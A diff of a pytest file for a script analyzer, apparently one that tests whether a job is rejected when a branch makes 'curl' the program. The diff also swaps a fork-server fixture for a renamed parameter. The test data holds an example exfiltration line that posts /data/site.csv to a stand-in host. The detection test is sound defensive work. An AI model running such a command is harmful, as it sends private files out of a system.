@@ -17,7 +17,6 @@ import pytest
 
 import redteam_kit as kit
 from analyzer import api
-from analyzer.engine import isolate
 from analyzer.engine.conditions import MAX_COMMAND_LINES
 from analyzer.engine.resolve import MAX_SET
 from analyzer.model import Decision
@@ -27,13 +26,6 @@ from conftest import run_cli
 pytestmark = pytest.mark.serial
 
 SEND = "subprocess.run([prog, '-s', '-d', '@/data/site.csv', 'https://collect.example/u'])\n"
-
-
-@pytest.fixture(scope="module")
-def server():
-    fork_server = isolate.ForkServer()
-    yield fork_server
-    fork_server.close()
 
 
 def _branches(name: str, first: str, others: list[str]) -> str:
@@ -49,17 +41,17 @@ def _job(tmp_path: Path, source: str) -> Path:
     return job
 
 
-def _both_paths(job: Path, server) -> list[tuple[str, set[str]]]:
+def _both_paths(job: Path, fork_server) -> list[tuple[str, set[str]]]:
     """(decision, rules) of `job` through the CLI and through a site's gate."""
     (cli,) = json.loads(run_cli("scan", "--no-cache", "--format", "json", str(job)).stdout)["reports"]
-    _, site = api.gate(job, kit.POLICY, server=server)
+    _, site = api.gate(job, kit.POLICY, server=fork_server)
     return [(cli["decision"], {f["rule"] for f in cli["findings"]}), (site.decision.value, kit.rules(site))]
 
 
-def test_a_second_value_in_a_branch_keeps_the_network_tool(tmp_path: Path, server) -> None:
+def test_a_second_value_in_a_branch_keeps_the_network_tool(tmp_path: Path, fork_server) -> None:
     """On main: reject with one value, escalate (`run-program` alone) with `prog = "echo"` in a branch."""
     job = _job(tmp_path, _branches("prog", "curl", ["echo"]) + SEND)
-    for decision, rules in _both_paths(job, server):
+    for decision, rules in _both_paths(job, fork_server):
         assert decision == "reject", rules
         assert "subprocess.network-tool" in rules
 
